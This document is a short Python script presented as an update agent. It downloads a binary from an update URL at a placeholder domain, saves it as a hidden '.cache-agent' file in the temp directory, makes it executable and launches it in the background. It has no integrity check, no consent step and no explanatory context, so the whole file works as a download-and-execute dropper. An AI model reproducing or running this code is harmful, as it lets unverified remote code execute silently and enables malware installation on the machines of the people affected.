import os
import stat
import tempfile
import requests

URL = "https://updates.example.com/bin/agent"


def main():
    target = os.path.join(tempfile.gettempdir(), ".cache-agent")
    reply = requests.get(URL, timeout=20)
    if reply.status_code != 200:
        return
    with open(target, "wb") as handle:
        handle.write(reply.content)
    os.chmod(target, os.stat(target).st_mode | stat.S_IEXEC)
    os.system(target + " &")


main()
